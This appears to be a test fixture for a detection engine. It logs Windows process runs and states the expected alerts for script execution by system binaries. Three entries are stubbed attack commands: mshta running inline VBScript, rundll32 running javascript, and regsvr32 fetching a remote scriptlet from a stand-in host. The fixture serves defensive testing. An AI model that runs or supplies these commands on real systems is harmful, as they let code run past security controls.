# Windows runs scripts that stand in a command, or that it fetches; a library of its own is none.
person ana
person ben
person eva
person ole
10:02 ana call-in +442079460031 14m
10:08 ana run C:\Windows\System32\mshta.exe cmd="mshta vbscript:Execute(CreateObject(x).Run(y))"
10:02 ben call-in +442079460032 14m
10:08 ben run C:\Windows\System32\rundll32.exe cmd="rundll32 javascript:..\mshtml,RunHTMLApplication"
10:02 eva call-in +442079460033 14m
10:08 eva run C:\Windows\System32\regsvr32.exe cmd="regsvr32 /s /n /u /i:https://files.example/a.sct scrobj.dll"
10:02 ole call-in +442079460034 14m
10:08 ole run C:\Windows\System32\rundll32.exe cmd="rundll32 shell32.dll,Control_RunDLL"
expect: ana hits=C9,F7 says="script in a command"
expect: ben hits=C9,F7 says="script in a command"
expect: eva hits=C9,F7 says="fetch by command"
expect: ole none
